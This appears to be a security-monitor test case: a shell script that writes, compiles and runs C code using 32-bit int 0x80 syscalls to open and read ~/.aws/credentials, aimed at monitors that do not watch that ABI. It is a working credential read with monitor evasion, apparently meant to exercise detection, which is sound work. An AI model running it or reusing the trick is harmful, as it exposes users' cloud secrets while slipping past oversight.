# incident: programs that open files by the other ABI's calls, which many monitors do not look at
# finding: credential-read
# needs: gcc
cat > helper.c <<'C'
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
static long call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    return result;
}
int main(void) {
    char *low = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    snprintf(low, 4096, "%s/.aws/credentials", getenv("HOME"));
    long fd = call(5, (long)low, 0, 0);
    long got = call(3, fd, (long)low + 4096, 4096);
    return got <= 0;
}
C
gcc -O1 -o helper helper.c && ./helper
